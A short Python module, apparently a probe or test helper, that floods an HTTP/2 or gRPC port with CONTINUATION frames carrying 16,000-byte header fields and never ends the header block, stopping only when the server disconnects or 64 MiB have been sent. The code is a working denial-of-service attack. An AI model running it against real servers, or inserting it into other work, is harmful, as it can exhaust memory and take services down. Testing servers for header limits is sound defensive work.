"""A stranger at a gRPC port, in bytes: a header block that does not end."""

import asyncio
import itertools
from contextlib import suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, SETTINGS, CONTINUATION = 1, 4, 9
FIELD = b"\x00\x01x" + b"\x7f\x81\x7c" + bytes(16_000)
"""A field of 16,000 bytes, which no table keeps."""
SENT_MAX = 64 * 1024**2
"""A port without a front takes more than that."""


def frame(kind: int, stream: int, payload: bytes = b"") -> bytes:
    """One of HTTP/2, without flags."""
    return len(payload).to_bytes(3, "big") + bytes([kind, 0]) + stream.to_bytes(4, "big") + payload


async def send_endless_headers(address: str) -> int:
    """Send fields until the port ends the connection, or has taken `SENT_MAX`.

    Returns:
        How many bytes were sent.
    """
    host, _, port = address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    writer.write(PREFACE + frame(SETTINGS, 0) + frame(HEADERS, 1, FIELD))
    sent = 0
    with suppress(ConnectionError):
        for _ in itertools.count():
            writer.write(frame(CONTINUATION, 1, FIELD))
            sent += len(FIELD)
            await writer.drain()
            if reader.at_eof() or sent > SENT_MAX:
                break
            await asyncio.sleep(0)
    writer.close()
    return sent
